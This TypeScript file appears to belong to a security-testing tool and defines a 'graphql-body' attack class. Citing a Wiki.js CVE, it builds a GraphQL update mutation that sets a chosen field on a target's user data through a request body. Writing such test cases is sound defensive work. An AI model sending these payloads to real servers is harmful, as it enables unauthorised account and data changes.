import type { AttackClass } from '../attack.js';
import { member, jsonWith, pointerTo } from '../body/json-text.js';

export const graphqlBody: AttackClass = {
  name: 'graphql-body',
  source: 'CVE-2026-44224 (Wiki.js: users.update)',
  why: 'A mutation is sent in place of the resource, to a server that takes both at one address.',
  aim: 'body',
  json: (target) => [
    {
      body: jsonWith(
        target,
        member('query', `mutation($input: Input!) { update(input: $input) { id } }`),
        member('variables', { input: { [target.key]: target.wants } }),
      ),
      pointer: pointerTo(target, 'variables'),
    },
  ],
};
